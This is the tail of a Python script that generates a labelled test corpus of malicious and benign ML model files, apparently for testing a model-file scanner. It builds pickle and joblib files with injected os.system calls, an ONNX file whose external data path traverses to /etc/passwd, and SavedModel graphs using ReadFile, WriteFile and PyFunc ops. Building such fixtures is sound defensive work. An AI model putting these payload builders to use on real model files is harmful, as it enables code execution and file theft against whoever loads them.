    put("malicious", "keras/custom_object.keras", keras_zip(keras_config([dense("d1"), custom])), "MEDIUM",
        ".keras with a custom object from another package")
    put("malicious", "keras/lambda.h5", keras_h5(keras_config([dense("d1"), LAMBDA])), "HIGH",
        ".h5 whose model_config holds a Lambda layer")
    put("benign", "keras/dense.keras", keras_zip(keras_config([dense("d1"), dense("d2")])), "BENIGN", ".keras with Dense layers")
    put("benign", "keras/dense.h5", keras_h5(keras_config([dense("d1")])), "BENIGN", ".h5 with Dense layers and weights")


# A minimal protobuf writer for SavedModel files: no TensorFlow needed.
def pb_varint(v):
    out = bytearray()
    while True:
        b = v & 0x7F
        v >>= 7
        if v:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pb_field(num, payload):
    if isinstance(payload, int):
        return pb_varint(num << 3) + pb_varint(payload)
    if isinstance(payload, str):
        payload = payload.encode()
    return pb_varint(num << 3 | 2) + pb_varint(len(payload)) + payload


def saved_model(ops, function_ops=()):
    nodes = b"".join(pb_field(1, pb_field(1, "n%d" % i) + pb_field(2, op)) for i, op in enumerate(ops))
    lib = b""
    if function_ops:
        fdef = pb_field(1, pb_field(1, "fn")) + b"".join(pb_field(3, pb_field(1, "f%d" % i) + pb_field(2, op))
                                                           for i, op in enumerate(function_ops))
        lib = pb_field(2, pb_field(1, fdef))
    graph = nodes + lib + pb_field(4, pb_field(1, 1087))
    meta = pb_field(1, pb_field(4, "serve")) + pb_field(2, graph)
    return pb_field(1, 1) + pb_field(2, meta)


def tf_files():
    put("malicious", "savedmodel_readfile/saved_model.pb",
        saved_model(["Placeholder", "Const", "ReadFile", "Identity"]), "HIGH", "SavedModel graph with ReadFile")
    mark_dir("malicious", "savedmodel_readfile", "HIGH", "SavedModel folder scanned as a whole")
    put("malicious", "savedmodel_pyfunc/saved_model.pb",
        saved_model(["Placeholder", "StatefulPartitionedCall"], ["WriteFile", "PyFunc"]), "HIGH",
        "SavedModel function library with WriteFile and PyFunc")
    mark_dir("malicious", "savedmodel_pyfunc", "HIGH", "SavedModel folder scanned as a whole")
    put("benign", "savedmodel/saved_model.pb",
        saved_model(["Placeholder", "Const", "MatMul", "Identity", "SaveV2", "RestoreV2", "ShardedFilename"]),
        "BENIGN", "SavedModel with ordinary and checkpoint ops")
    mark_dir("benign", "savedmodel", "BENIGN", "SavedModel folder")


def onnx_files():
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    def model(nodes, inits, domain_opsets=()):
        x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])
        y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])
        g = helper.make_graph(nodes, "g", [x], [y], initializer=inits)
        opsets = [helper.make_opsetid("", 13)] + [helper.make_opsetid(d, 1) for d in domain_opsets]
        m = helper.make_model(g, opset_imports=opsets, producer_name="bulwark-corpus")
        m.ir_version = 8
        # SerializeToString, not onnx.save: nothing resolves external data.
        return m.SerializeToString()

    w = numpy_helper.from_array(np.array([1.0, 2.0], dtype=np.float32), "w")
    add = helper.make_node("Add", ["x", "w"], ["y"])
    put("benign", "onnx/model.onnx", model([add], [w]), "BENIGN", "valid ONNX: Add with an initializer")

    ext = TensorProto()
    ext.name = "w"
    ext.data_type = TensorProto.FLOAT
    ext.dims.extend([2])
    ext.data_location = TensorProto.EXTERNAL
    for k, v in (("location", "../../../../../../etc/passwd"), ("offset", "0"), ("length", "8")):
        e = ext.external_data.add()
        e.key, e.value = k, v
    put("malicious", "onnx/external_data_escape.onnx", model([add], [ext]), "HIGH",
        "initializer whose external data is ../../../../../../etc/passwd")

    ok_ext = TensorProto()
    ok_ext.CopyFrom(ext)
    del ok_ext.external_data[:]
    for k, v in (("location", "weights.bin"), ("offset", "0"), ("length", "8")):
        e = ok_ext.external_data.add()
        e.key, e.value = k, v
    put("benign", "onnx_external/model.onnx", model([add], [ok_ext]), "BENIGN", "external data next to the model")
    put("benign", "onnx_external/weights.bin", struct.pack("<2f", 1, 2), "BENIGN", "the external data file")
    mark_dir("benign", "onnx_external", "BENIGN", "ONNX folder with external data")

    custom = helper.make_node("Backdoor", ["x"], ["y"], domain="com.evil.ops")
    put("malicious", "onnx/custom_domain.onnx", model([custom], [], ["com.evil.ops"]), "MEDIUM",
        "node in custom operator domain com.evil.ops")
    bad = numpy_helper.from_array(np.array([1.0, 2.0], dtype=np.float32), "w")
    bad.dims[:] = [1000]
    put("malicious", "onnx/tensor_size_mismatch.onnx", model([add], [bad]), "MEDIUM",
        "raw_data of 8 bytes for a tensor of shape [1000]")


def sklearn_joblib_files():
    """scikit-learn and joblib files, when those are installed (Debian:
    python3-sklearn, python3-joblib)."""
    import numpy as np
    try:
        import joblib
    except ImportError:
        joblib = None
    try:
        from sklearn.ensemble import RandomForestClassifier
        from sklearn.linear_model import LogisticRegression
        from sklearn.pipeline import make_pipeline
        from sklearn.preprocessing import StandardScaler
    except ImportError:
        RandomForestClassifier = None

    if RandomForestClassifier is not None:
        rng = np.random.RandomState(0)
        x, y = rng.randn(40, 3), np.arange(40) % 2
        pipe = make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y)
        forest = RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(x, y)
        put("benign", "sklearn/pipeline.pkl", pickle.dumps(pipe, protocol=4), "BENIGN",
            "pickle of a fitted StandardScaler + LogisticRegression pipeline (sklearn classes are LOW)")
        put("benign", "sklearn/forest_p2.pkl", pickle.dumps(forest, protocol=2), "BENIGN",
            "pickle (protocol 2) of a fitted RandomForestClassifier")
        bad = pickle.dumps(pipe, protocol=4)
        payload = Asm(None).glob("posix", "system").s(CMD).t1().reduce().pop().bytes()
        put("malicious", "sklearn/pipeline_injected.pkl", bad[:2] + payload + bad[2:], "CRITICAL",
            "fitted sklearn pipeline pickle with an os.system call injected before its first frame")
        if joblib is not None:
            b = io.BytesIO()
            joblib.dump(forest, b)
            put("benign", "sklearn/forest.joblib", b.getvalue(), "BENIGN",
                "joblib.dump of a RandomForestClassifier (numpy arrays written raw inside the pickle)")

    if joblib is not None:
        arr = np.arange(5, dtype=np.float32)
        data = {"a": arr, "m": np.ones((3, 4)), "o": np.array([1, "x", None], dtype=object), "n": 3}
        for name, compress in (("arrays.joblib", 0), ("arrays_zlib.joblib", 3), ("arrays_gzip.joblib", ("gzip", 3))):
            b = io.BytesIO()
            joblib.dump(data, b, compress=compress)
            put("benign", "joblib/" + name, b.getvalue(), "BENIGN", "joblib.dump of arrays, compress=%r" % (compress,))
        b = io.BytesIO()
        joblib.dump({"a": arr, "b": 1}, b)
        raw = b.getvalue()
        at = raw.index(arr.tobytes()) + len(arr.tobytes())
        payload = Asm(None).glob("posix", "system").s(CMD).t1().reduce().pop().bytes()
        put("malicious", "joblib/payload_after_array.joblib", raw[:at] + payload + raw[at:], "CRITICAL",
            "joblib file with an os.system call right after the raw bytes of an array")
    put("malicious", "joblib/os_system_zlib.joblib", zlib.compress(call_os_system(4)), "CRITICAL",
        "zlib-compressed pickle (joblib's compressed format) calling os.system")


def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    os.makedirs(MAL)
    os.makedirs(BEN)
    malicious_pickles()
    torch_files()
    numpy_files()
    builtin_pickles()
    zip_bomb()
    safetensors_files()
    gguf_files()
    keras_files()
    tf_files()
    onnx_files()
    sklearn_joblib_files()
    # Files that are only parts of a folder entry are listed with the folder.
    for key in [k for k in manifest if k.startswith(("malicious/savedmodel", "benign/savedmodel", "benign/onnx_external"))]:
        if key.count("/") > 1:
            del manifest[key]
    manifest["_note"] = {"expect": "", "what": (
        "Generated by make_corpus.py with Debian's python3 (torch 1.13, numpy, onnx; python3-sklearn, "
        "python3-joblib and python3-h5py for the sklearn, joblib and .h5 files, which are skipped "
        "or replaced by stand-ins when those are missing).")}
    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1, sort_keys=True)
        f.write("\n")
    total = sum(os.path.getsize(os.path.join(d, n)) for d, _, ns in os.walk(OUT) for n in ns)
    print("wrote %d entries, %d bytes, under %s" % (len(manifest) - 1, total, OUT), file=sys.stderr)


if __name__ == "__main__":
    main()
